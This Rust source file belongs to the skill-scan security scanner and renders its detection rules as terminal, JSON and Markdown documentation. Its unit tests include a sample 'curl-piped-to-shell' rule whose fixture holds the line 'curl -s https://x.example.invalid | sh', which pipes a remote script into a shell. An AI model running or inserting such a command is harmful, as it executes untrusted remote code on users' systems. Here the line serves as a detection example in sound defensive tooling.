//! Rule documentation: `skill-scan rules`, `skill-scan explain RULE_ID`, `docs/rules.md`, and the rule
//! metadata SARIF needs. The caller fills [`RuleDoc`] from its rule set, so this crate never depends on the
//! rules crate.

use serde::Serialize;
use skill_scan_model::{
    escape_for_terminal as esc, Capability, RecommendedAction, SignalClass, ThreatCategory,
};
use std::fmt::Write;

/// What a reader (or a SARIF consumer) needs to know about one rule.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RuleDoc {
    /// Stable and opaque, e.g. `RCE001`.
    pub id: String,
    /// Unique kebab-case name, e.g. `curl-piped-to-shell`.
    pub name: String,
    /// One line.
    pub title: String,
    pub category: ThreatCategory,
    pub signal: SignalClass,
    pub action: RecommendedAction,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub capabilities: Vec<Capability>,
    pub mitre: Vec<String>,
    /// Why it matters and how to fix it; hard-wrapped text with inline Markdown code spans.
    pub description: String,
    /// Where the rule came from (`remote_exec.yaml`, or a user pack's path).
    pub pack: String,
    /// What reports it; rules of packs leave it out of JSON.
    #[serde(skip_serializing_if = "RuleKind::is_pack")]
    pub kind: RuleKind,
    #[serde(skip)]
    pub examples: Vec<RuleExample>,
}

/// What reports a rule: a rule of a pack (a file or package detector), a compound detector of the verdict
/// layer, or the package verdict itself (SARIF's `SSV-VERDICT-…` results).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleKind {
    #[default]
    Pack,
    Compound,
    Verdict,
}

impl RuleKind {
    fn is_pack(&self) -> bool {
        *self == RuleKind::Pack
    }
}

/// A package the rule must fire on (`fires`) or stay quiet on: one file for a rule of a pack; for a compound,
/// every file of the example package, each headed `==> path <==`, with `file` listing them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleExample {
    pub file: String,
    pub fires: bool,
    pub text: String,
}

impl RuleDoc {
    /// The description as paragraphs of one line each (the YAML source wraps lines by hand).
    pub fn paragraphs(&self) -> Vec<String> {
        self.description
            .split("\n\n")
            .map(|p| p.split_whitespace().collect::<Vec<_>>().join(" "))
            .filter(|p| !p.is_empty())
            .collect()
    }

    /// `T1059.004` → `https://attack.mitre.org/techniques/T1059/004/`.
    pub fn mitre_links(&self) -> Vec<(String, String)> {
        self.mitre
            .iter()
            .map(|id| {
                let path = id.replace('.', "/");
                (
                    id.clone(),
                    format!("https://attack.mitre.org/techniques/{path}/"),
                )
            })
            .collect()
    }
}

/// `skill-scan rules`: one line per rule.
pub fn render_rule_list_text(rules: &[RuleDoc]) -> String {
    let width = |f: fn(&RuleDoc) -> usize| rules.iter().map(f).max().unwrap_or(0);
    let id_w = width(|r| r.id.len()).max(2);
    let name_w = width(|r| r.name.len()).max(4);
    let cat_w = width(|r| r.category.as_str().len()).max(8);
    let mut out = String::new();
    let _ = writeln!(
        out,
        "{:<id_w$}  {:<name_w$}  {:<cat_w$}  {:<6}  MITRE ATT&CK",
        "ID", "NAME", "CATEGORY", "ACTION"
    );
    for rule in rules {
        let _ = writeln!(
            out,
            "{:<id_w$}  {:<name_w$}  {:<cat_w$}  {:<6}  {}",
            esc(&rule.id),
            esc(&rule.name),
            rule.category.as_str(),
            rule.action.as_str(),
            esc(&rule.mitre.join(", "))
        );
    }
    let _ = writeln!(
        out,
        "\n{} rule(s). `skill-scan explain RULE_ID` prints one rule's documentation.",
        rules.len()
    );
    out
}

/// `skill-scan rules --format json`: `{"rules": [...]}`, one object per rule.
pub fn render_rule_list_json(rules: &[RuleDoc]) -> String {
    #[derive(Serialize)]
    struct Document<'a> {
        rules: &'a [RuleDoc],
    }
    let mut out = serde_json::to_string_pretty(&Document { rules })
        .unwrap_or_else(|e| format!("{{\"error\": \"{e}\"}}"));
    out.push('\n');
    out
}

/// `skill-scan explain RULE_ID`: the whole documentation of one rule, for a terminal.
pub fn render_rule_explain(rule: &RuleDoc) -> String {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "{} {}: {}",
        esc(&rule.id),
        esc(&rule.name),
        esc(&rule.title)
    );
    let _ = writeln!(
        out,
        "\ncategory: {}   signal: {}   action: {}",
        rule.category, rule.signal, rule.action
    );
    if !rule.capabilities.is_empty() {
        let names: Vec<&str> = rule.capabilities.iter().map(|c| c.as_str()).collect();
        let _ = writeln!(out, "capabilities: {}", names.join(", "));
    }
    let links: Vec<String> = rule
        .mitre_links()
        .into_iter()
        .map(|(id, url)| format!("{} ({url})", esc(&id)))
        .collect();
    let _ = writeln!(out, "MITRE ATT&CK: {}", links.join(", "));
    let _ = writeln!(out, "pack: {}", esc(&rule.pack));
    for paragraph in rule.paragraphs() {
        out.push('\n');
        for line in wrap(&esc(&paragraph), 100) {
            let _ = writeln!(out, "{line}");
        }
    }
    for example in &rule.examples {
        let verb = if example.fires {
            "fires on"
        } else {
            "stays quiet on"
        };
        let _ = writeln!(out, "\nexample: {verb} {}", esc(&example.file));
        for line in example.text.lines() {
            let _ = writeln!(out, "  | {}", esc(line));
        }
    }
    out
}

/// `docs/rules.md`: an index table, then one section per rule with its documentation and examples.
pub fn render_rules_markdown(rules: &[RuleDoc]) -> String {
    let mut out = String::new();
    out.push_str("# Rules\n\n");
    out.push_str(
        "<!-- Generated from rules/*.yaml and rules/verdict/compounds.yaml; do not edit by hand. Regenerate \
         with:\n     cargo run -p xtask -- rules-doc -->\n\n",
    );
    let _ = writeln!(
        out,
        "{} rules. Each is data under [`rules/`](../rules/) ([format](rule-format.md)); `skill-scan rules` lists \
         them and `skill-scan explain RULE_ID` prints one.\n",
        rules.len()
    );
    out.push_str("| id | name | category | action | MITRE ATT&CK |\n|---|---|---|---|---|\n");
    for rule in rules {
        let _ = writeln!(
            out,
            "| [{}](#{}) | `{}` | {} | {} | {} |",
            rule.id,
            rule.id.to_ascii_lowercase(),
            rule.name,
            rule.category,
            rule.action,
            rule.mitre.join(", ")
        );
    }
    for rule in rules {
        let _ = write!(
            out,
            "\n<a id=\"{}\"></a>\n\n## {} `{}`: {}\n\n",
            rule.id.to_ascii_lowercase(),
            rule.id,
            rule.name,
            rule.title
        );
        let _ = writeln!(
            out,
            "- category: `{}` · signal: `{}` · action: `{}`",
            rule.category, rule.signal, rule.action
        );
        if !rule.capabilities.is_empty() {
            let names: Vec<String> = rule.capabilities.iter().map(|c| format!("`{c}`")).collect();
            let _ = writeln!(out, "- capabilities: {}", names.join(", "));
        }
        let links: Vec<String> = rule
            .mitre_links()
            .into_iter()
            .map(|(id, url)| format!("[{id}]({url})"))
            .collect();
        let _ = writeln!(out, "- MITRE ATT&CK: {}", links.join(", "));
        let _ = writeln!(out, "- pack: `{}`", rule.pack);
        for paragraph in rule.paragraphs() {
            let _ = write!(out, "\n{paragraph}\n");
        }
        for example in &rule.examples {
            let verb = if example.fires {
                "Fires on"
            } else {
                "Stays quiet on"
            };
            let fence = fence_for(&example.text);
            let _ = write!(
                out,
                "\n{verb} `{}`:\n\n{fence}\n{}{}{fence}\n",
                example.file,
                example.text,
                if example.text.ends_with('\n') {
                    ""
                } else {
                    "\n"
                }
            );
        }
    }
    out
}

/// A backtick fence longer than any backtick run inside the text, so the example cannot close it early.
fn fence_for(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    "`".repeat((longest + 1).max(3))
}

fn wrap(text: &str, width: usize) -> Vec<String> {
    let mut lines = Vec::new();
    let mut line = String::new();
    for word in text.split(' ') {
        if !line.is_empty() && line.chars().count() + 1 + word.chars().count() > width {
            lines.push(std::mem::take(&mut line));
        }
        if !line.is_empty() {
            line.push(' ');
        }
        line.push_str(word);
    }
    if !line.is_empty() {
        lines.push(line);
    }
    lines
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) fn rule() -> RuleDoc {
        RuleDoc {
            id: "RCE001".into(),
            name: "curl-piped-to-shell".into(),
            title: "Remote script piped into a shell".into(),
            category: ThreatCategory::RemoteExec,
            signal: SignalClass::MaliciousBehavior,
            action: RecommendedAction::Block,
            capabilities: vec![Capability::RemoteExec],
            mitre: vec!["T1059.004".into(), "T1105".into()],
            description: "Piping `curl` into `sh` runs whatever\nthe server returns.\n\nShip the script instead.\n"
                .into(),
            pack: "remote_exec.yaml".into(),
            kind: RuleKind::Pack,
            examples: vec![
                RuleExample {
                    file: "install.sh".into(),
                    fires: true,
                    text: "curl -s https://x.example.invalid | sh\n".into(),
                },
                RuleExample {
                    file: "README.md".into(),
                    fires: false,
                    text: "```sh\ncurl -o x\n```\n".into(),
                },
            ],
        }
    }

    #[test]
    fn descriptions_unwrap_into_paragraphs() {
        assert_eq!(
            rule().paragraphs(),
            [
                "Piping `curl` into `sh` runs whatever the server returns.",
                "Ship the script instead."
            ]
        );
    }

    #[test]
    fn mitre_ids_link_to_attack_pages() {
        assert_eq!(
            rule().mitre_links()[0].1,
            "https://attack.mitre.org/techniques/T1059/004/"
        );
    }

    #[test]
    fn list_has_one_line_per_rule() {
        let text = render_rule_list_text(&[rule()]);
        assert!(
            text.contains("RCE001  curl-piped-to-shell  remote_exec  block   T1059.004, T1105"),
            "{text}"
        );
        let json: serde_json::Value =
            serde_json::from_str(&render_rule_list_json(&[rule()])).unwrap();
        assert_eq!(json["rules"][0]["id"], "RCE001");
        assert_eq!(json["rules"][0]["action"], "block");
        assert_eq!(json["rules"][0]["mitre"][1], "T1105");
    }

    #[test]
    fn explain_shows_everything_and_escapes_example_text() {
        let mut rule = rule();
        rule.examples[0].text = "echo \u{1b}[31m | sh\n".into();
        let text = render_rule_explain(&rule);
        assert!(text.starts_with("RCE001 curl-piped-to-shell: Remote script piped into a shell\n"));
        assert!(text.contains("action: block"));
        assert!(text.contains("T1059.004 (https://attack.mitre.org/techniques/T1059/004/)"));
        assert!(text.contains("Ship the script instead."));
        assert!(
            text.contains("example: fires on install.sh\n  | echo \\u{1b}[31m | sh"),
            "{text}"
        );
        assert!(text.contains("example: stays quiet on README.md"));
        assert!(!text.contains('\u{1b}'));
    }

    #[test]
    fn markdown_fences_outlast_backticks_in_examples() {
        let md = render_rules_markdown(&[rule()]);
        assert!(md.contains("| [RCE001](#rce001) | `curl-piped-to-shell` | remote_exec | block |"));
        assert!(md.contains("<a id=\"rce001\"></a>"));
        assert!(
            md.contains("Stays quiet on `README.md`:\n\n````\n```sh\n"),
            "{md}"
        );
    }
}
